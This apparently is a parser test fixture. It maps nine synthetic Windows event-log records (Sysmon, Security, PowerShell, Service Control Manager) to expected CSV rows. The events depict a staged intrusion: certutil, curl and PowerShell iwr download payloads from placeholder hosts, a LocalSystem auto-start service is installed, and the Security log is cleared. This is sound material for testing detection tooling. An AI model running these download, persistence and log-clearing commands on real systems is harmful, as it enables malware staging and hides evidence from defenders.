# evtx_dump's indented JSON: the rows that every shape of these events gives
--- query
* | fields _messagetime, EventID, Channel, Computer, Provider_Name, EventRecordID, host, user, process_name, process_path, process_id, command_line, parent_process_name, file_path, src_ip, dst_ip, dst_port, dns_query, script_text, hash_sha256, IntegrityLevel, TargetUserName, LogonType, SubjectUserName, SubjectLogonId, ServiceName, DestinationHostname, Initiated
--- input events.json
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Sysmon",
          "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
        }
      },
      "EventID": 1,
      "Version": 5,
      "Level": 4,
      "Task": 1,
      "Opcode": 0,
      "Keywords": "0x8000000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:01.000000Z"
        }
      },
      "EventRecordID": 74174,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Microsoft-Windows-Sysmon/Operational",
      "Computer": "ws5.corp.example",
      "Security": {
        "#attributes": {
          "UserID": "S-1-5-18"
        }
      }
    },
    "EventData": {
      "RuleName": "-",
      "UtcTime": "2026-11-24 08:00:01.000",
      "ProcessGuid": "5AA13A44-0C90-68FC-0001-000000004002",
      "ProcessId": 5320,
      "Image": "C:\\Windows\\System32\\certutil.exe",
      "OriginalFileName": "CertUtil.exe",
      "CommandLine": "certutil.exe -urlcache -split -f http://files.cdn-stage.example/up/update.exe \"C:\\Users\\Public\\update & go.exe\"",
      "CurrentDirectory": "C:\\Users\\amara\\",
      "User": "CORP\\amara",
      "LogonGuid": "5AA13A44-0C90-68FC-0002-000000004002",
      "LogonId": "0x3e7a1",
      "TerminalSessionId": 1,
      "IntegrityLevel": "Medium",
      "Hashes": "MD5=5D41402ABC4B2A76B9719D911017C592,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744",
      "ParentProcessGuid": "5AA13A44-0C90-68FC-0003-000000004002",
      "ParentProcessId": 4100,
      "ParentImage": "C:\\Windows\\System32\\cmd.exe",
      "ParentCommandLine": "\"C:\\Windows\\system32\\cmd.exe\" /c stage.bat",
      "ParentUser": "CORP\\amara"
    }
  }
}
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Sysmon",
          "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
        }
      },
      "EventID": 22,
      "Version": 5,
      "Level": 4,
      "Task": 22,
      "Opcode": 0,
      "Keywords": "0x8000000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:02.000000Z"
        }
      },
      "EventRecordID": 74175,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Microsoft-Windows-Sysmon/Operational",
      "Computer": "ws5.corp.example",
      "Security": {
        "#attributes": {
          "UserID": "S-1-5-18"
        }
      }
    },
    "EventData": {
      "RuleName": "-",
      "UtcTime": "2026-11-24 08:00:02.000",
      "ProcessGuid": "5AA13A44-0C90-68FC-0001-000000004002",
      "ProcessId": 5320,
      "QueryName": "files.cdn-stage.example",
      "QueryStatus": "0",
      "QueryResults": "::ffff:203.0.113.20;",
      "Image": "C:\\Windows\\System32\\certutil.exe",
      "User": "CORP\\amara"
    }
  }
}
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Sysmon",
          "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
        }
      },
      "EventID": 3,
      "Version": 5,
      "Level": 4,
      "Task": 3,
      "Opcode": 0,
      "Keywords": "0x8000000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:03.000000Z"
        }
      },
      "EventRecordID": 74176,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Microsoft-Windows-Sysmon/Operational",
      "Computer": "ws5.corp.example",
      "Security": {
        "#attributes": {
          "UserID": "S-1-5-18"
        }
      }
    },
    "EventData": {
      "RuleName": "-",
      "UtcTime": "2026-11-24 08:00:03.000",
      "ProcessGuid": "5AA13A44-0C90-68FC-0001-000000004002",
      "ProcessId": 5320,
      "Image": "C:\\Windows\\System32\\certutil.exe",
      "User": "CORP\\amara",
      "Protocol": "tcp",
      "Initiated": true,
      "SourceIsIpv6": false,
      "SourceIp": "192.0.2.5",
      "SourceHostname": "ws5.corp.example",
      "SourcePort": 50123,
      "DestinationIsIpv6": false,
      "DestinationIp": "203.0.113.20",
      "DestinationHostname": "files.cdn-stage.example",
      "DestinationPort": 80
    }
  }
}
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Sysmon",
          "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"
        }
      },
      "EventID": 11,
      "Version": 5,
      "Level": 4,
      "Task": 11,
      "Opcode": 0,
      "Keywords": "0x8000000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:04.000000Z"
        }
      },
      "EventRecordID": 74177,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Microsoft-Windows-Sysmon/Operational",
      "Computer": "ws5.corp.example",
      "Security": {
        "#attributes": {
          "UserID": "S-1-5-18"
        }
      }
    },
    "EventData": {
      "RuleName": "-",
      "UtcTime": "2026-11-24 08:00:04.000",
      "ProcessGuid": "5AA13A44-0C90-68FC-0001-000000004002",
      "ProcessId": 5320,
      "Image": "C:\\Windows\\System32\\certutil.exe",
      "TargetFilename": "C:\\Users\\Public\\update & go.exe",
      "CreationUtcTime": "2026-11-24 08:00:04.000",
      "User": "CORP\\amara"
    }
  }
}
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Security-Auditing",
          "Guid": "54849625-5478-4994-A5BA-3E3B0328C30D"
        }
      },
      "EventID": 4688,
      "Version": 2,
      "Level": 4,
      "Task": 13312,
      "Opcode": 0,
      "Keywords": "0x8020000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:05.000000Z"
        }
      },
      "EventRecordID": 74178,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Security",
      "Computer": "ws5.corp.example",
      "Security": null
    },
    "EventData": {
      "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1107",
      "SubjectUserName": "amara",
      "SubjectDomainName": "CORP",
      "SubjectLogonId": "0x3e7a1",
      "NewProcessId": "0x1a2c",
      "NewProcessName": "C:\\Windows\\System32\\curl.exe",
      "TokenElevationType": "%%1938",
      "ProcessId": "0x1004",
      "CommandLine": "curl.exe -o C:\\Users\\Public\\größe.bin https://paste.example/r/7",
      "TargetUserSid": "S-1-0-0",
      "TargetUserName": "-",
      "TargetDomainName": "-",
      "TargetLogonId": "0x0",
      "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
      "MandatoryLabel": "S-1-16-8192"
    }
  }
}
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Security-Auditing",
          "Guid": "54849625-5478-4994-A5BA-3E3B0328C30D"
        }
      },
      "EventID": 4624,
      "Version": 2,
      "Level": 4,
      "Task": 12544,
      "Opcode": 0,
      "Keywords": "0x8020000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:06.000000Z"
        }
      },
      "EventRecordID": 74179,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Security",
      "Computer": "ws5.corp.example",
      "Security": null
    },
    "EventData": {
      "SubjectUserSid": "S-1-0-0",
      "SubjectUserName": "-",
      "SubjectDomainName": "-",
      "SubjectLogonId": "0x0",
      "TargetUserSid": "S-1-5-21-1004336348-1177238915-682003330-1107",
      "TargetUserName": "amara",
      "TargetDomainName": "CORP",
      "TargetLogonId": "0x51f02",
      "LogonType": 3,
      "LogonProcessName": "NtLmSsp ",
      "AuthenticationPackageName": "NTLM",
      "WorkstationName": "WS9",
      "LogonGuid": "00000000-0000-0000-0000-000000000000",
      "TransmittedServices": "-",
      "LmPackageName": "NTLM V2",
      "KeyLength": 128,
      "ProcessId": "0x0",
      "ProcessName": "-",
      "IpAddress": "192.0.2.9",
      "IpPort": "49771",
      "ImpersonationLevel": "%%1833"
    }
  }
}
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-PowerShell",
          "Guid": "A0C1853B-5C40-4B15-8766-3CF1C58F985A"
        }
      },
      "EventID": 4104,
      "Version": 1,
      "Level": 4,
      "Task": 2,
      "Opcode": 0,
      "Keywords": "0x0",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:07.000000Z"
        }
      },
      "EventRecordID": 74180,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Microsoft-Windows-PowerShell/Operational",
      "Computer": "ws5.corp.example",
      "Security": {
        "#attributes": {
          "UserID": "S-1-5-21-1004336348-1177238915-682003330-1107"
        }
      }
    },
    "EventData": {
      "MessageNumber": 1,
      "MessageTotal": 1,
      "ScriptBlockText": "if (1 -lt 2) { iwr 'https://paste.example/r/8' -OutFile $env:TEMP\\a.dll }\n# \"done\"",
      "ScriptBlockId": "0d7f3a1e-55b1-4f0e-9a55-0c1f6c3b8a11",
      "Path": "C:\\Users\\amara\\stage.ps1"
    }
  }
}
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Service Control Manager",
          "Guid": "555908D1-A6D7-4695-8E1E-26931D2012F4"
        }
      },
      "EventID": {
        "#attributes": {
          "Qualifiers": 16384
        },
        "#text": 7045
      },
      "Version": 0,
      "Level": 4,
      "Task": 0,
      "Opcode": 0,
      "Keywords": "0x8080000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:08.000000Z"
        }
      },
      "EventRecordID": 74181,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "System",
      "Computer": "ws5.corp.example",
      "Security": {
        "#attributes": {
          "UserID": "S-1-5-21-1004336348-1177238915-682003330-1107"
        }
      }
    },
    "EventData": {
      "ServiceName": "Updater",
      "ImagePath": "\"C:\\Users\\Public\\update & go.exe\" /svc",
      "ServiceType": "user mode service",
      "StartType": "auto start",
      "AccountName": "LocalSystem"
    }
  }
}
{
  "Event": {
    "#attributes": {
      "xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"
    },
    "System": {
      "Provider": {
        "#attributes": {
          "Name": "Microsoft-Windows-Eventlog",
          "Guid": "FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148"
        }
      },
      "EventID": 1102,
      "Version": 0,
      "Level": 4,
      "Task": 104,
      "Opcode": 0,
      "Keywords": "0x4020000000000000",
      "TimeCreated": {
        "#attributes": {
          "SystemTime": "2026-11-24T08:00:09.000000Z"
        }
      },
      "EventRecordID": 74182,
      "Correlation": null,
      "Execution": {
        "#attributes": {
          "ProcessID": 3308,
          "ThreadID": 4008
        }
      },
      "Channel": "Security",
      "Computer": "ws5.corp.example",
      "Security": null
    },
    "UserData": {
      "LogFileCleared": {
        "#attributes": {
          "xmlns": "http://manifests.microsoft.com/win/2004/08/windows/eventlog"
        },
        "SubjectUserSid": "S-1-5-21-1004336348-1177238915-682003330-1107",
        "SubjectUserName": "amara",
        "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x3e7a1"
      }
    }
  }
}
--- output csv
_messagetime,EventID,Channel,Computer,Provider_Name,EventRecordID,host,user,process_name,process_path,process_id,command_line,parent_process_name,file_path,src_ip,dst_ip,dst_port,dns_query,script_text,hash_sha256,IntegrityLevel,TargetUserName,LogonType,SubjectUserName,SubjectLogonId,ServiceName,DestinationHostname,Initiated
1795507201000,1,Microsoft-Windows-Sysmon/Operational,ws5.corp.example,Microsoft-Windows-Sysmon,74174,ws5.corp.example,CORP\amara,certutil.exe,C:\Windows\System32\certutil.exe,5320,"certutil.exe -urlcache -split -f http://files.cdn-stage.example/up/update.exe ""C:\Users\Public\update & go.exe""",cmd.exe,,,,,,,9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,Medium,,,,,,,
1795507202000,22,Microsoft-Windows-Sysmon/Operational,ws5.corp.example,Microsoft-Windows-Sysmon,74175,ws5.corp.example,CORP\amara,certutil.exe,C:\Windows\System32\certutil.exe,5320,,,,,,,files.cdn-stage.example,,,,,,,,,,
1795507203000,3,Microsoft-Windows-Sysmon/Operational,ws5.corp.example,Microsoft-Windows-Sysmon,74176,ws5.corp.example,CORP\amara,certutil.exe,C:\Windows\System32\certutil.exe,5320,,,,192.0.2.5,203.0.113.20,80,,,,,,,,,,files.cdn-stage.example,true
1795507204000,11,Microsoft-Windows-Sysmon/Operational,ws5.corp.example,Microsoft-Windows-Sysmon,74177,ws5.corp.example,CORP\amara,certutil.exe,C:\Windows\System32\certutil.exe,5320,,,C:\Users\Public\update & go.exe,,,,,,,,,,,,,,
1795507205000,4688,Security,ws5.corp.example,Microsoft-Windows-Security-Auditing,74178,ws5.corp.example,amara,curl.exe,C:\Windows\System32\curl.exe,6700,curl.exe -o C:\Users\Public\größe.bin https://paste.example/r/7,cmd.exe,,,,,,,,,-,,amara,0x3e7a1,,,
1795507206000,4624,Security,ws5.corp.example,Microsoft-Windows-Security-Auditing,74179,ws5.corp.example,amara,,,0,,,,192.0.2.9,,,,,,,amara,3,-,0x0,,,
1795507207000,4104,Microsoft-Windows-PowerShell/Operational,ws5.corp.example,Microsoft-Windows-PowerShell,74180,ws5.corp.example,,,,,,,C:\Users\amara\stage.ps1,,,,,"if (1 -lt 2) { iwr 'https://paste.example/r/8' -OutFile $env:TEMP\a.dll }
# ""done""",,,,,,,,,
1795507208000,7045,System,ws5.corp.example,Service Control Manager,74181,ws5.corp.example,LocalSystem,,,,,,"""C:\Users\Public\update & go.exe"" /svc",,,,,,,,,,,,Updater,,
1795507209000,1102,Security,ws5.corp.example,Microsoft-Windows-Eventlog,74182,ws5.corp.example,amara,,,,,,,,,,,,,,,,amara,0x3e7a1,,,
